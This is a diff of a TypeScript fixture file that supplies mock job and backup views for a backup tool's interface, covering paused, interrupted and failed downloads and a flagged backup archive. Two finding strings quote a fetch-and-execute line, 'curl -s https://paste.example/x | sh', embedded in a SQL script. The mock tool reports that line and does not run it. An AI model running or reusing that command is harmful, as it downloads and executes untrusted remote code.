@@ -98,6 +98,8 @@ export const runningJob: JobView = {
   restore: null,
   verdict: null,
   file: null,
+  canPause: false,
+  goesOn: null,
   logLines: 214,
   logWarnings: 3,
   logErrors: 0,
@@ -302,12 +304,42 @@ export const pullJob: JobView = {
     phase('verify', 'Verify', 'Read every block back from “Anchor”, list the archive. Only then it counts.', 'waits'),
   ],
   facts: [{ name: 'Started', value: 'by hand', note: null }],
+  canPause: true,
   safeNext: 'What was fetched stays, and the next pull goes on from there. Nothing of it is in the list of backups.',
+};
+
+/** The same, paused in the middle. */
+export const pausedJob: JobView = {
+  ...pullJob,
+  canPause: false,
+  row: jobRow({ ...pullJob.row, id: 'j-paused', state: 'cancelled', finishedAtMs: NOW - MINUTE, startedAtMs: NOW - 2 * MINUTE, outcome: 'Paused. What was fetched stays here, and is no backup yet.' }),
+  phases: pullJob.phases.map((each) => (each.state === 'running' ? { ...each, state: 'failed' } : each)),
+  bytesPerSecond: null,
+  leftLowMs: null,
+  leftHighMs: null,
+  goesOn: { remoteIds: ['rb-11'], bytesHere: 1_203_339_264, bytesTotal: 3_110_000_000, needsPassphrase: false, isPaused: true },
+};
+
+/** Killed in the middle of several, the first of them encrypted. */
+export const killedPullJob: JobView = {
+  ...pausedJob,
+  row: jobRow({ ...pausedJob.row, id: 'j-killed', state: 'interrupted', outcome: 'Interrupted: its process ended.' }),
+  goesOn: { remoteIds: ['rb-11', 'rb-08', 'rb-05'], bytesHere: 1_203_339_264, bytesTotal: 3_110_000_000, needsPassphrase: true, isPaused: false },
+  safeNext: 'It is safe to go on with it: what was fetched is used, and only the rest is fetched.',
+};
+
+/** A download whose server went away for good. */
+export const failedPullJob: JobView = {
+  ...pausedJob,
+  row: jobRow({ ...pausedJob.row, id: 'j-pull-failed', state: 'failed', outcome: 'the server gives nothing any more' }),
+  error: { code: 'download_stalled', message: 'nothing came for 10 minutes: the connection gave nothing any more', hint: 'See whether this computer and the server are online, then go on: what came is kept.', retry: 'now', reportId: '88a1c0de' },
+  goesOn: { remoteIds: ['rb-11'], bytesHere: 1_203_339_264, bytesTotal: 3_110_000_000, needsPassphrase: false, isPaused: false },
 };
 
 /** An import that is done. */
 export const importJob: JobView = {
   ...pullJob,
+  canPause: false,
   row: jobRow({ id: 'j-import', kind: 'import', title: 'Importing into shop-prod', state: 'succeeded', percent: 100, phase: null, startedAtMs: NOW - 120_000, finishedAtMs: NOW - 1000, outcome: 'Readable: 39 tables, 11,912,400 rows, 24,016 files.' }),
   sentence: 'full_20261114_020003.tar.gz.enc to vault “Anchor”.',
   phases: pullJob.phases.slice(2).map((each) => ({ ...each, state: 'done', elapsedMs: 30_000 })),
@@ -388,15 +420,29 @@ const artifact: ArtifactView = {
   madeBy: 'a SupaManager',
   madeAtMs: NOW - 7 * DAY,
   remoteId: 'rb-10',
-  findings: ['4 of 4 components match their SHA-256', 'This kind of encryption cannot show changes.', 'roles.sql, line 12: `\\! curl…` would run a program; it is left out of a restore'],
-        unloaded: null,
-        isTrusted: true,
+  findings: [
+    'Not authenticated: This kind of encryption cannot show changes. Checksums can, where there are any.',
+    'Shell command: database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh — would run a program. It was not run; the script is not loaded.',
+  ],
+  unloaded: null,
+  isTrusted: true,
 };
 
 export function backupView(row: BackupRow, tables = 42, scenario = ''): BackupView {
-  const made = databaseView(row, scenario === 'file_without_database' ? 0 : tables);
+  const made = databaseView(row, ['file_without_database', 'file_unloaded'].includes(scenario) ? 0 : tables);
   if (!scenario.startsWith('file_')) return made;
-  const view: BackupView = { ...made, artifact, toolVersion: null, origin: 'SupaManager at manager.example', lsn: null, trees: [{ component: 'storage', path: 'storage', files: 24_016, sizeBytes: 5_790_000_000 }, { component: 'config', path: 'config', files: 3, sizeBytes: 9150 }] };
+  const ofPlatform = ['file_backup', 'file_telegram'].includes(scenario) ? { row: { ...made.row, projectId: 'p-booking-manager', project: 'booking-manager' } } : {};
+  const view: BackupView = { ...made, ...ofPlatform, artifact, toolVersion: null, origin: 'SupaManager at manager.example', lsn: null, trees: [{ component: 'storage', path: 'storage', files: 24_016, sizeBytes: 5_790_000_000 }, { component: 'config', path: 'config', files: 3, sizeBytes: 9150 }] };
+  if (scenario === 'file_unloaded')
+    return {
+      ...view,
+      row: { ...row, components: ['config'], tables: 0, rows: null },
+      parts: [],
+      serverVersion: null,
+      extensions: [],
+      trees: view.trees.slice(1),
+      artifact: { ...artifact, unloaded: 'database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh would run a program', isTrusted: false },
+    };
   if (scenario !== 'file_without_database') return view;
   return { ...view, row: { ...row, components: ['logs'], tables: 0, rows: null }, parts: [], serverVersion: null, extensions: [], trees: [{ component: 'logs', path: 'logs', files: 41, sizeBytes: 880_000_000 }] };
 }
